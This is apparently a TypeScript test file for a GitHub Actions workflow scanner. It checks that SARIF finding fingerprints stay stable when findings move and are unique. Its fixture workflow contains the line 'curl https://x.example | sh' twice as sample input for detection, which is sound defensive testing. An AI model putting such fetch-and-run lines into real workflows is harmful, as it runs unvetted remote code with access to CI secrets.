import { readFile } from "node:fs/promises";
import { Ajv } from "ajv";
import { afterAll, beforeAll, expect, test } from "vitest";
import { SARIF_SCHEMA } from "../cli/sarif-schema.ts";
import type { Fixture } from "../embedded-github/fixture.ts";
import {
  emptyWorkspace,
  openChange,
  pullStep,
  startShop,
  type Workspace,
  WORKFLOW,
  workflow,
} from "./change-in-github.ts";
import { runStep } from "./runner/run-step.ts";

interface Finding {
  readonly ruleId: string;
  readonly locations: readonly [
    {
      readonly physicalLocation: {
        readonly artifactLocation: { readonly uri: string };
        readonly region: { readonly startLine: number };
      };
    },
  ];
  readonly partialFingerprints: Readonly<Record<string, string>>;
}

let fixture: Fixture;
let workspace: Workspace;

beforeAll(async () => {
  fixture = await startShop();
  workspace = await emptyWorkspace();
});

afterAll(async () => {
  await workspace[Symbol.asyncDispose]();
  await fixture[Symbol.asyncDispose]();
});

const FINDINGS = `${workflow("write")}      - uses: octo/a@v1
      - uses: octo/b@v1
      - run: curl https://x.example | sh
      - run: curl https://x.example | sh
`;

/** What the step writes of a change, by the fingerprint of each finding. */
async function findingsOf(branch: string, files: Readonly<Record<string, string>>) {
  const { number } = await openChange(fixture, files, branch);
  const step = await pullStep(fixture, number, workspace.folder);
  const { outputs } = await runStep({ ...step, with: { sarif: `${branch}.sarif` } });
  const log = JSON.parse(await readFile(outputs["sarif"] ?? "", "utf8")) as {
    readonly runs: readonly [{ readonly results: readonly Finding[] }];
  };
  const validate = new Ajv({ strict: true, strictRequired: false }).compile(SARIF_SCHEMA);
  expect(validate(log), JSON.stringify(validate.errors?.slice(0, 3))).toBe(true);
  return log.runs[0].results.map(({ ruleId, locations: [at], partialFingerprints: prints }) => ({
    print: prints["bailiffReason/v1"] ?? "",
    rule: ruleId,
    file: at.physicalLocation.artifactLocation.uri,
    line: at.physicalLocation.region.startLine,
  }));
}

test("a finding keeps its fingerprint when it moves and other files change, and no two share one", async () => {
  const before = await findingsOf("before", { [WORKFLOW]: FINDINGS });
  expect(before.length).toBeGreaterThanOrEqual(5);
  expect(new Set(before.map(({ print }) => print)).size).toBe(before.length);

  const other = ".github/workflows/other.yml";
  const after = await findingsOf("after", {
    [WORKFLOW]: `# moved\n\n${FINDINGS}`,
    [other]: FINDINGS,
    "notes.txt": "x\n",
  });
  const moved = before.map((finding) => ({ ...finding, line: finding.line + 2 }));
  expect(after.filter(({ file }) => file === WORKFLOW)).toEqual(moved);
  expect(after.some(({ file }) => file === other)).toBe(true);
  expect(new Set(after.map(({ print }) => print)).size).toBe(after.length);
});
